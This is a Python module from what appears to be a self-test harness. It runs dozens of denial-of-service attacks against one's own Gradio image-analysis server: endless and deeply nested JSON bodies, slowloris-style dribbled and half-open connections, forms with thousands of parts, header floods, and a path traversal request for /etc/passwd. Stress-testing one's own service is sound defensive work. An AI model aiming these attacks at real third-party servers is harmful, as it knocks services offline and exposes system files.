"""The attacks, each for as long as its target says; all of them on one's own server, on this machine."""

import contextlib
import socket
import time
import uuid
from collections.abc import Callable, Iterator
from typing import Final

import httpx

from .attack_lines import (
    behind_streams,
    cut_forms,
    full_connections,
    held_json,
    left_batches,
    own_pages,
    reading_with_bodies,
    small_pieces,
    tiny_files,
    unfetched_messages,
    unread_and_more,
    unread_answers,
)
from .attack_media import (
    base64_by_rest,
    photos_as_files,
    photos_past_the_queue,
    refused_photos,
    slow_photos,
    videos,
    webcam,
)
from .attack_shares import crowds, just_light, long_files, new_pages, odd_forms, session_names, slow_videos
from .target import Target, upload_head

#: Gradio's addresses that take JSON.
JSON_ADDRESSES: Final = ("component_server", "run/analyze_image", "cancel", "queue/join", "call/analyze_image")
#: Bytes sent for an endless body.
ENDLESS: Final = 400_000_000


def _pieces(start: bytes, total: int = ENDLESS) -> Iterator[bytes]:
    yield start
    for _ in range(total // 65_536):
        yield b"x" * 65_536


def endless_json(target: Target) -> None:
    """400 MB of JSON, with and without a Content-Length."""

    def send(client: httpx.Client, number: int) -> httpx.Response:
        address = f"gradio_api/{JSON_ADDRESSES[number % len(JSON_ADDRESSES)]}"
        headers = {"Content-Type": "application/json"}
        if number % 2:
            headers["Content-Length"] = str(ENDLESS)
        return client.post(address, content=_pieces(b'{"data": ["'), headers=headers)

    target.together(send, 10)


def many_values(target: Target) -> None:
    """A megabyte of JSON that parses into half a million objects."""
    body = b'{"data": [' + b"[]," * 380_000 + b"[]]}"

    def send(client: httpx.Client, number: int) -> httpx.Response:
        address = f"gradio_api/{JSON_ADDRESSES[number % len(JSON_ADDRESSES)]}"
        return client.post(address, content=body, headers={"Content-Type": "application/json"})

    target.together(send, 10)


def endless_field(target: Target) -> None:
    """An endless text field in a form, instead of a file."""
    start = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n'

    def send(client: httpx.Client, _: int) -> httpx.Response:
        headers = {"Content-Type": "multipart/form-data; boundary=x"}
        return client.post("gradio_api/upload", content=_pieces(start), headers=headers)

    target.together(send, 8)


def many_parts(target: Target) -> None:
    """Forms of a thousand files, or whose parts and headers have thousands of parameters."""
    part = b'--x\r\nContent-Disposition: form-data; name="files"; filename="a.txt"%b\r\n\r\nx\r\n'
    files, parameters = part % b"" * 1_000 + b"--x--\r\n", part % (b";" * 4_000) * 500 + b"--x--\r\n"
    sent = [
        ("gradio_api/upload", files, ""),
        ("gradio_api/upload", parameters, ""),
        ("api/v1/analyze", parameters, ""),
        ("api/v1/analyze", files, ";" * 60_000),
    ]

    def send(client: httpx.Client, number: int) -> httpx.Response:
        address, body, more = sent[number % len(sent)]
        headers = {"Content-Type": "multipart/form-data; boundary=x" + more}
        return client.post(address, content=body, headers=headers)

    target.together(send, 8)


def open_pages(target: Target) -> None:
    """Connections as an open page holds one, without the page, and many that watch an upload."""
    addresses = ("heartbeat/{0}", "upload_progress?upload_id={0}")
    lines: list[socket.socket] = []
    with contextlib.ExitStack() as opened:
        while target.goes_on:
            for number in range(min(100, 1_000 - len(lines))):
                address = addresses[number % 4 == 0].format(uuid.uuid4().hex)
                head = f"GET /gradio_api/{address} HTTP/1.1\r\nHost: x\r\n\r\n"
                if line := _opened(opened, target, head.encode()):
                    target.note("asked")
                    lines += line
            time.sleep(0.1)


def slow_bodies(target: Target) -> None:
    """A byte now and then, over many connections, to every kind of address."""
    addresses = ("/api/v1/analyze", "/api/v1/video", "/gradio_api/upload", "/gradio_api/component_server")
    lines: list[socket.socket] = []
    number = 0
    with contextlib.ExitStack() as opened:
        while target.goes_on:
            while len(lines) < 120:
                address = addresses[number % len(addresses)]
                number += 1
                form = "multipart/form-data; boundary=x" if number % 2 else "application/json"
                head = f"POST {address} HTTP/1.1\r\nHost: x\r\nContent-Type: {form}\r\nContent-Length: 900000\r\n\r\n"
                lines += _opened(opened, target, head.encode())
            lines = [line for line in lines if _drip(line, b"-", target)]
            time.sleep(0.2)


def half_open(target: Target) -> None:
    """Connections that send nothing, or incomplete headers."""
    lines: list[socket.socket] = []
    with contextlib.ExitStack() as opened:
        while target.goes_on:
            for number in range(min(100, 1_500 - len(lines))):
                lines += _opened(opened, target, b"GET / HTTP/1.1\r\nX: " if number % 2 else b"")
            lines = [line for line in lines if _drip(line, b"", target)]
            time.sleep(0.1)


def _opened(stack: contextlib.ExitStack, target: Target, head: bytes) -> list[socket.socket]:
    """One more connection on which so much was sent; none if it was refused."""
    with contextlib.suppress(OSError):
        line = stack.enter_context(target.connect())
        line.sendall(head)
        return [line]
    return []


def _drip(line: socket.socket, what: bytes, target: Target) -> bool:
    """Send a piece; returns whether the connection is still open."""
    try:
        line.setblocking(False)
        said = line.recv(100)
    except BlockingIOError:
        with contextlib.suppress(OSError):
            line.sendall(what)
            return True
        said = b""
    except OSError:
        said = b""
    target.note(said[9:12].decode() if said else "closed")
    line.close()
    return False


def broken_uploads(target: Target) -> None:
    """Send half of a file and disconnect."""

    def send(_client: httpx.Client, _number: int) -> str:
        with target.connect() as line:
            line.sendall(upload_head() + bytes(2_000_000))
            time.sleep(0.05)
        return "gone"

    target.together(send, 8)


def bad_requests(target: Target) -> None:
    """Nonsense instead of HTTP, endless headers, bodies in tiny pieces, path traversal, functions that do not exist."""
    sent = [
        b"\x16\x03\x01\x02\0\x01" * 10,
        b"GET " + b"a" * 100_000,
        b"GET /" + b"a/" * 20_000 + b" HTTP/1.1\r\nHost: x\r\nCookie: " + b"a=b;" * 9_000 + b"\r\n\r\n",
        b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 20_000,
        b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 40_000,
        b"POST /gradio_api/call/v2/nonsense HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
        b"GET /gradio_api/file=../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
        b"POST /gradio_api/run/x HTTP/1.1\r\nHost: x\r\nContent-Type: text/x\r\nContent-Length: 4\r\n\r\nnull",
    ]

    def send(_client: httpx.Client, number: int) -> str:
        with target.connect() as line:
            line.sendall(sent[number % len(sent)])
            return line.recv(100)[9:12].decode(errors="replace") or "closed"

    target.together(send, 14)


ATTACKS: Final[dict[str, Callable[[Target], None]]] = {
    attack.__name__: attack
    for attack in (
        endless_json,
        many_values,
        endless_field,
        many_parts,
        open_pages,
        photos_as_files,
        photos_past_the_queue,
        slow_photos,
        base64_by_rest,
        webcam,
        slow_bodies,
        half_open,
        unread_answers,
        session_names,
        broken_uploads,
        bad_requests,
        videos,
        slow_videos,
        crowds,
        long_files,
        just_light,
        new_pages,
        odd_forms,
        full_connections,
        small_pieces,
        tiny_files,
        cut_forms,
        unfetched_messages,
        left_batches,
        unread_and_more,
        held_json,
        reading_with_bodies,
        own_pages,
        refused_photos,
        behind_streams,
    )
}
